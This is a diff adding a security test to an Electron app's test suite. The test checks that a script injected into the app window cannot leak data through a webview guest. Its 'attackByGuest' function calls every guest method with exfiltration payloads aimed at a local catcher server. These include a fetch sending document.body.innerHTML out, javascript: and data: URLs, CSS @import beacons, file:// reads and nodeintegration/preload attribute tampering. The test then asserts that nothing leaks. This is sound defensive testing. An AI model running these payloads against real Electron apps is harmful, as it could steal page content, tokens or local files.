@@ -1,7 +1,18 @@
 /**
  * The packaged app works without the loader, holds nothing but our code, and refuses what a person may not ask of it.
  */
-import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import {
+  chmodSync,
+  chownSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { homedir, tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { extractFile, listPackage } from '@electron/asar';
@@ -18,6 +29,105 @@ const shownRows = `({
   trips: document.querySelector('[data-testid="kpi-trips"]')?.textContent.match(/[\\d,]+/)?.[0].replaceAll(',', ''),
   boroughs: [...document.querySelectorAll('[data-testid^="borough-"]')].map((box) => box.value),
 })`;
+
+/** A server that nobody should reach. It hears connections, whatever comes over them. */
+async function startCatcher() {
+  const heard: string[] = [];
+  const server = createServer((request, response) => {
+    heard.push(`${request.method} ${request.url}`);
+    response.setHeader('access-control-allow-origin', '*').end('caught');
+  });
+  server.on('connection', () => heard.push('a connection'));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    heard,
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    async stop() {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+/**
+ * Runs in the window, as a script would that got into it: calls every method that the element of an admitted guest has,
+ * with everything that could lead anywhere, and sets every attribute. @returns what it learned
+ */
+async function attackByGuest({ elsewhere, file }: { elsewhere: string; file: string }) {
+  const guest = document.querySelector('[data-role="active"] > webview') as HTMLElement &
+    Record<string, (...parameters: unknown[]) => unknown>;
+  const methods: string[] = [];
+  for (let type = Object.getPrototypeOf(guest); type !== HTMLElement.prototype; type = Object.getPrototypeOf(type)) {
+    for (const [name, property] of Object.entries(Object.getOwnPropertyDescriptors(type))) {
+      if (name !== 'constructor' && typeof property.value === 'function') methods.push(name);
+    }
+  }
+  const script = `fetch('${elsewhere}/fetch?' + document.body.innerHTML); open('${elsewhere}/open');
+    new Image().src = '${elsewhere}/image'; location.href = '${elsewhere}/location';
+    document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/frame' }));
+    document.documentElement.outerHTML + JSON.stringify(performance.getEntries()) + document.body.innerText`;
+  const parameters: unknown[][] = [
+    [''],
+    [{}],
+    [`${elsewhere}/x?data=1`],
+    [file],
+    [`data:text/html,<script>fetch('${elsewhere}/data')</script>`],
+    ['about:blank'],
+    [`javascript:fetch('${elsewhere}/javascript')`],
+    [`view-source:${elsewhere}/`],
+    ['chrome://version/'],
+    ['devtools://devtools/bundled/inspector.html'],
+    ['sightglass-app://app/index.html'],
+    [`${elsewhere}/post`, { httpReferrer: `${elsewhere}/`, userAgent: 'x', extraHeaders: 'x: y' }],
+    [`data:text/html,<img src=base>`, { baseURLForDataURL: `${elsewhere}/` }],
+    [script],
+    [`body { background: url('${elsewhere}/css') } @import '${elsewhere}/import';`],
+    [{ type: 'mouseDown', x: 1, y: 1 }],
+    ['embed-host.command', { type: 'workbook:variables:list' }],
+    [1, 1],
+  ];
+  const answers: Record<string, unknown> = {};
+  for (const given of parameters) {
+    for (const name of methods) {
+      // Calls go out one after the other and are answered when they are: one that never is holds nothing up.
+      try {
+        Promise.resolve(guest[name]?.(...given)).then(
+          (answer) => (answers[`${name} ${JSON.stringify(given[0])}`] = answer),
+          (error: unknown) => (answers[`${name} ${JSON.stringify(given[0])}`] = String(error)),
+        );
+      } catch (error) {
+        answers[`${name} ${JSON.stringify(given[0])}`] = String(error);
+      }
+    }
+  }
+  for (const name of [
+    'useragent',
+    'httpreferrer',
+    'partition',
+    'preload',
+    'webpreferences',
+    'allowpopups',
+    'nodeintegration',
+  ]) {
+    guest.setAttribute(name, `${elsewhere}/${name}`);
+  }
+  for (const address of [`${elsewhere}/src`, file, 'about:blank']) guest.setAttribute('src', address);
+  const { sightglass } = window as unknown as { sightglass: { state: { get(): Promise<unknown> } } };
+  // Main answers in turn: after these it has dealt with all of the above, and what came of it had its time as well.
+  for (let times = 0; times < 50; times += 1) {
+    await sightglass.state.get();
+    await new Promise((resolve) => requestAnimationFrame(resolve));
+  }
+  try {
+    answers.afterwards = await Promise.race([
+      guest.executeJavaScript?.('document.body.innerText'),
+      sightglass.state.get().then(() => ''),
+    ]);
+  } catch (error) {
+    answers.afterwards = String(error);
+  }
+  return { methods, answers: JSON.stringify(answers) };
+}
 
 // Only Linux is packaged and driven here; the other systems need their own machines.
 describe.runIf(process.platform === 'linux')('the packaged app', () => {
@@ -81,6 +191,53 @@ describe.runIf(process.platform === 'linux')('the packaged app', () => {
     await again.window.locator('[data-testid="error-panel"][data-code="insecure_server"]').waitFor();
     expect(bench.browser.unclaimed()).toEqual([]);
     expect(await bench.demo.controls.authorizationServer.journal({})).toEqual([]);
+  });
+
+  test('gives a script in its own window neither the network, nor files, nor the workbook, by any method of a guest', async () => {
+    const catcher = await startCatcher();
+    try {
+      bench = await openWorkbench();
+      const running = await launch(bench, true, [`--import-env=${bench.envFile}`]);
+      await bench.signIn(running, ben);
+      const ready = () =>
+        running.window.locator('[data-testid="pane"][data-phase="ready"]').waitFor({ timeout: 60_000 });
+      await ready();
+      const file = join(bench.folder, 'private.txt');
+      writeFileSync(file, 'private content of a file');
+
+      const { methods, answers } = await running.window.evaluate(attackByGuest, {
+        elsewhere: catcher.origin,
+        file: `file://${file}`,
+      });
+      // Every method that the element has was tried, and these are among them.
+      expect(methods).toEqual(expect.arrayContaining(['loadURL', 'downloadURL', 'executeJavaScript', 'openDevTools']));
+      expect(methods.length).toBeGreaterThan(40);
+      await ready();
+      expect(answers).not.toContain('private content');
+      expect(answers).not.toContain('jwt');
+      expect(answers).not.toContain('<html');
+      // A picture, a printed page, or an open tool is no text, but long or true.
+      expect(JSON.parse(answers)).toMatchObject({
+        'capturePage ""': '',
+        'printToPDF {}': '',
+        'isDevToolsOpened ""': false,
+      });
+      expect(catcher.heard).toEqual([]);
+      expect(bench.browser.unclaimed()).toEqual([]);
+      const refused = running.log().filter(({ event }) => event === 'guest.method-refused');
+      expect(refused.map(({ method }) => method)).toEqual(expect.arrayContaining(['loadURL', 'openDevTools']));
+
+      // It can take the workbook off the screen, and then that comes back.
+      const guest = await running.window.locator('[data-role="active"]').getAttribute('data-guest');
+      await running.window.evaluate(() => document.querySelector('webview')?.remove());
+      await running.window.locator(`[data-guest="${guest}"]`).waitFor({ state: 'detached' });
+      await ready();
+      const { origin } = bench.demo.sigma;
+      await expect.poll(() => running.inWorkbook(origin, `document.querySelector('h1')?.textContent`)).toBeTruthy();
+      expect(catcher.heard).toEqual([]);
+    } finally {
+      await catcher.stop();
+    }
   });
 
   test('writes no signed address down for the program that starts it', async () => {
